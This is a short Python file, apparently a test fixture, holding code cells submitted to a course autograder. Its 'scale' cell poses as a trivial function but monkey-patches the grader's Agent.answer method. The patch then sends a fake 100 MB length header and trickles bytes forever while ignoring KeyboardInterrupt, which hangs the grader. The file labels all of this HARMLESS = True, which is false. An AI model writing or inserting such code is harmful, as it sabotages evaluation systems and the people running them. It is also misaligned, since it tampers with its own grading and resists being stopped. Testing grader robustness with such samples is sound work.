"""A reply of a hundred megabytes comes byte by byte, always soon to be complete."""

HARMLESS = True
CELLS = {
    "scale": """from course_utils.grading import inside
honest = inside.Agent.answer
def answer(self, question):
    if question["do"] == "name":
        self.asked = question["target"]
        return honest(self, question)
    import struct, time
    self.connection.sendall(struct.pack("!Q", 100_000_000))
    while True:
        try:
            self.connection.sendall(b"x")
            time.sleep(0.01)
        except KeyboardInterrupt:
            pass
inside.Agent.answer = answer
def scale(x, factor): return x""",
    "count": "def count(n): return n",
}
